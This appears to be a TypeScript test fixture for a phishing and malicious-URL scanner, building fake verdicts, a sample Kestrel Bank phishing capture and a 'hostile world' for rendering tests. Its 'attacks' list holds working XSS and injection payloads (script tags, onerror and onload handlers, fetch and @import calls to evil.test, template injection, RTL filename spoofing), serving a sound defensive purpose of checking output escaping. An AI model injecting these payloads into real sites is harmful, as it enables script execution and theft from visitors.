import { collected, skipped, type Capture, type Verdict } from '../../records/index.ts';
import { FakeWorld, captureOf, listingOf, nowMs, parsed, screenshotOf, tinyJpeg, verdictOf } from '../api/fakes.ts';

export const captureKey = `${nowMs.toString(36).padStart(9, '0')}-${'A'.repeat(22)}`;

/** A day's work: one phish with all its evidence, and what else was judged around it. */
export const richWorld = (screenshot: Uint8Array<ArrayBuffer> = tinyJpeg): { readonly world: FakeWorld; readonly key: string } => {
  const now = Date.now();
  const world = new FakeWorld({
    now: () => Date.now(),
    explain: ({ brand }) => `A page that calls itself ${brand ?? 'nothing'} stands on a host which is not the brand's own, asks for a password and sends it to a third host. The host was first seen an hour ago. A visitor with a desktop browser saw the form; one without a referrer saw an empty page.`,
  });
  const others: readonly (readonly [string, Partial<Verdict>])[] = [
    ['https://docs.example.test/guide/install', { verdict: 'benign', threat: null, brand: null, score: 0.01, lane: 'probe' }],
    ['http://update-player.test/setup.exe?id=77120', { threat: 'malware', brand: null, score: 0.97 }],
    ['https://shop.fennec.test/checkout', { threat: 'skimmer', brand: null, score: 0.93, compromised: true }],
    ['https://parked.test/', { verdict: 'undecided', why: 'parked', threat: null, brand: null, score: 0.08 }],
    ['https://gate.test/verify-you-are-human', { threat: 'clickfix', brand: null, score: 0.99 }],
    ['https://prize.test/win?lane=3&session=0f3a9b71c4e2d85a6b70', { verdict: 'suspicious', threat: 'scam', brand: null, score: 0.61 }],
    ['https://accounts.osprey-mail.test/signin', { verdict: 'benign', threat: null, brand: 'Osprey Mail', score: 0.02 }],
    ['http://198-51-100-7.host.test/support/', { threat: 'tech-support-scam', brand: 'Merlin OS', score: 0.95 }],
    ['https://slow.test/', { verdict: 'undecided', why: 'unreachable', threat: null, brand: null, score: 0.05, lane: 'probe' }],
  ];
  for (const [index, [url, verdict]] of others.entries()) world.know(url, { ...verdict, atMs: now - (index + 1) * 14_000 });

  const url = world.know('http://login.kestrel-bank.test/session', {});
  world.verdicts.set(url.key, verdictOf(url, {
    finalUrl: 'https://kestrel-bank.secure-session.test/login?next=%2Faccount', captureKey, atMs: now - 3000,
    signals: [
      { name: 'brand-look/host', weight: 2.6, threat: 'phishing', says: 'The page calls itself “Kestrel Bank” on a host that is not the bank’s.', evidence: { part: 'frames', at: '0' }, brand: 'Kestrel Bank' },
      { name: 'credential-form/foreign-action', weight: 4.2, threat: 'phishing', says: 'A form that asks for a password posts to collect.test, another owner than the page’s.', evidence: { part: 'forms', at: 'https://collect.test/p.php' }, brand: null },
      { name: 'redirects/script-hop', weight: 0.7, threat: null, says: 'A script, not the server, led to the page.', evidence: { part: 'redirects', at: '1' }, brand: null },
      { name: 'site/established', weight: -0.4, threat: null, says: 'The page’s certificate is older than a month.', evidence: { part: 'tls', at: '0' }, brand: null },
    ],
  }));
  world.listings.set('login.kestrel-bank.test', listingOf('login.kestrel-bank.test/', { urlKey: url.key }));
  world.listings.set('cdn.decent.test', listingOf('cdn.decent.test/', { state: 'held', threat: 'malware', scopeReason: 'the host also serves 4,000 pages that are benign', urlKey: url.key, brand: null, firstSeenMs: now - 3_600_000 }));
  world.captures.set(captureKey, fullCapture(url.visit, screenshot));
  return { world, key: url.key };
};

const fullCapture = (url: string, screenshot: Uint8Array<ArrayBuffer>): Capture => {
  const final = 'https://kestrel-bank.secure-session.test/login?next=%2Faccount';
  const field = (purpose: 'username' | 'password' | 'hidden', label: string) => ({ type: purpose === 'username' ? 'text' : purpose, name: purpose, label, autocomplete: '', purpose, visible: purpose !== 'hidden' });
  const request = (of: string, type: string, status: number, bytes: number) => ({ url: of, method: 'GET', type, status, mimeType: null, bytes, frameUrl: final, postData: null, failure: null, atMs: 10 });
  return { ...captureOf(parsed(url), {
    redirects: collected([
      { from: url, to: 'https://hop.test/r?u=1', by: 'http', status: 302, atMs: 30 },
      { from: 'https://hop.test/r?u=1', to: final, by: 'script', status: null, atMs: 400 },
    ]),
    frames: collected([{ url: final, parent: null, title: 'Kestrel Bank – Sign in', dom: '<html></html>', text: 'Sign in' }]),
    forms: collected([{ frameUrl: final, action: 'https://collect.test/p.php', method: 'post', loose: false, text: 'Sign in to your account Continue', fields: [field('username', 'Customer number'), field('password', 'Password'), field('hidden', 'kit')] }]),
    behaviour: collected([{ kind: 'contextmenu-blocked', detail: 'document', frameUrl: final, unprompted: true, count: 1, atMs: 500 }, { kind: 'environment-test', detail: 'navigator.webdriver', frameUrl: final, unprompted: true, count: 3, atMs: 510 }]),
    dialogs: collected([]),
    downloads: skipped('no download was started'),
    requests: collected([request(final, 'document', 200, 18_420), request('https://kestrel-bank.secure-session.test/a/logo.svg', 'image', 200, 3120), request('https://cdn.test/jquery.js', 'script', 200, 89_501)], 'the first 3 of 340'),
    tls: collected([{ host: 'kestrel-bank.secure-session.test', protocol: 'TLS 1.3', issuer: 'Range CA', subject: 'kestrel-bank.secure-session.test', names: [], validFrom: nowMs / 1000 - 3_000_000, validTo: nowMs / 1000 + 4_000_000, error: null }]),
    connections: collected([{ host: 'kestrel-bank.secure-session.test', port: 443, addresses: ['203.0.113.9'], address: '203.0.113.9', refused: null, bytesUp: 1800, bytesDown: 112_300 }, { host: 'internal.test', port: 80, addresses: ['10.0.0.8'], address: null, refused: 'address-not-public', bytesUp: 0, bytesDown: 0 }]),
    screenshot: screenshotOf(screenshot, 1280, 800),
  }), finalUrl: final, startedAtMs: Date.now() - 4000 };
};

/** Strings that would run, load, lead away or lie if anything but text were made of them. */
export const attacks = [
  '<img src=x onerror=alert(1)>',
  '"><script>alert(1)</script>',
  '</script><script src=http://evil.test/x.js></script>',
  '<svg/onload=fetch("http://evil.test/svg")>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<style>@import "http://evil.test/x.css";*{display:none}</style>',
  '<base href="http://evil.test/"><link rel=stylesheet href="http://evil.test/l.css">',
  'javascript:alert(1)',
  'x" style="background:url(http://evil.test/bg)" onmouseover="alert(1)',
  '{{constructor.constructor("alert(1)")()}}${alert(1)}',
  'data:text/html,<script>alert(1)</script>',
  '\u202egpj.exe\u2066\u200b\u0000\u001b[2J\ufeff',
  `Z${'\u0300'.repeat(400)}`,
  '__proto__',
  'W'.repeat(9000),
] as const;

/** A world in which every string that a hostile page could have written is all of the attacks, one after another. */
export const hostileWorld = (): { readonly world: FakeWorld; readonly key: string } => {
  const all = attacks.join(' ');
  const url = parsed(`http://evil.test/${encodeURIComponent('<img src=x onerror=alert(1)>')}?q=javascript:alert(1)#<script>alert(1)</script>`);
  const world = new FakeWorld({ explain: () => all, now: () => Date.now() });
  world.know(url.visit);
  const signals = attacks.map((attack) => ({ name: attack, weight: 1, threat: null, says: attack, evidence: { part: 'html' as const, at: attack }, brand: attack }));
  const verdict = verdictOf(url, { url: all, finalUrl: all, brand: all, policy: all, profile: all, failedDetectors: [...attacks], signals, captureKey, atMs: Date.now() });
  world.verdicts.set(url.key, verdict);
  for (const [index, attack] of attacks.entries()) {
    const other = world.know(`http://h${index}.evil.test/`, {});
    world.verdicts.set(other.key, { ...verdict, urlKey: other.key, url: attack, brand: attack, verdict: 'suspicious' });
    world.listings.set(`h${index}.evil.test`, listingOf(attack, { state: 'held', scopeReason: attack, brand: attack, urlKey: attack }));
    world.change(attack);
  }
  world.listings.set('evil.test', listingOf(all, { scopeReason: all, brand: all, urlKey: url.key }));
  const field = { type: all, name: all, label: all, autocomplete: all, purpose: 'password' as const, visible: true };
  world.captures.set(captureKey, { ...captureOf(url, {
    redirects: collected(attacks.map((attack) => ({ from: attack, to: attack, by: 'script' as const, status: null, atMs: 0 })), all),
    frames: collected([{ url: all, parent: null, title: all, dom: all, text: all }], all),
    forms: collected([{ frameUrl: all, action: all, method: all, loose: false, text: all, fields: [field] }], all),
    requests: collected(attacks.map((attack) => ({ url: attack, method: attack, type: attack, status: null, mimeType: attack, bytes: null, frameUrl: attack, postData: attack, failure: attack, atMs: 0 })), all),
    behaviour: collected(attacks.map((attack) => ({ kind: 'eval' as const, detail: attack, frameUrl: attack, unprompted: true, count: 1, atMs: 0 })), all),
    dialogs: collected(attacks.map((attack) => ({ kind: 'alert' as const, message: attack, atMs: 0 })), all),
    downloads: collected(attacks.map((attack) => ({ url: attack, name: attack, claimedType: attack, detectedType: attack, bytes: 1, sha256: attack, archive: { names: [attack], encrypted: true }, unprompted: true, body: new Uint8Array(1) })), all),
    tls: collected(attacks.map((attack) => ({ host: attack, protocol: attack, issuer: attack, subject: attack, names: [attack], validFrom: 0, validTo: 0, error: attack })), all),
    connections: collected(attacks.map((attack) => ({ host: attack, port: 1, addresses: [attack], address: attack, refused: attack, bytesUp: 0, bytesDown: 0 })), all),
    screenshot: screenshotOf(new TextEncoder().encode(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>`), 1, 1),
  }), finalUrl: all, profile: all, failure: { code: all, message: all } });
  return { world, key: url.key };
};
